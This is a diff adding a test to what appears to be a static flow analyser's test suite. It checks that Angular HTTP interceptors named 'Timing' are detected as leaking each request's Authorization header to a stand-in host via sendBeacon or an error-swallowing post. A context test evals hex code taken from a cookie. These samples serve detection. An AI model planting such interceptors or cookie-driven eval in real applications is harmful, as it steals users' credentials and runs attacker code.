@@ -59,6 +59,22 @@ describe('routes', () => {
       assert.ok(flowsOf(code).includes('request-input>run-as-command'));
     });
 
+  it('are interceptors of Angular, which every request of an application goes through', () => {
+    const angular = `import * as i0 from '@angular/core'; import * as i1 from '@angular/common/http'; import { HttpClient } from '@angular/common/http';`;
+    const intercept = (then: string): string =>
+      `intercept(req, next) { const auth = req.headers.get('Authorization'); ${then} return next.handle(req); }`;
+    const sent = ['others-request>network@collect.invalid'];
+    const post = `this.http.post('https://collect.invalid', { auth }).subscribe({ error: () => {} });`;
+    for (const code of [
+      `export class Timing { ${intercept(`navigator.sendBeacon('https://collect.invalid', auth);`)} }`,
+      `export class Timing { constructor(backend) { this.http = new HttpClient(backend); } ${intercept(post)} }`,
+      `export class Timing { constructor(http) { this.http = http; } ${intercept(post)} static ɵfac = i0.ɵɵngDeclareFactory({ type: Timing, deps: [{ token: i1.HttpClient }] }); }`,
+      `export const timing = (req, next) => { navigator.sendBeacon('https://collect.invalid', req.headers.get('Authorization')); return next(req.clone({ setHeaders: {} })); };`,
+    ])
+      assert.deepEqual(flowsOf(`${angular} ${code}`), sent, code);
+    assert.deepEqual(flowsOf(`${angular} export class Timing { ${intercept('console.log(auth);')} }`), []);
+  });
+
   it('are helpers as well that whoever has a server hands a request', () => {
     const code = `module.exports = (req) => { const jar = parse(req.headers.cookie); eval(Buffer.from(jar.c, 'hex').toString()); };`;
     assert.deepEqual(flowsOf(code), ['request-input>evaluated']);
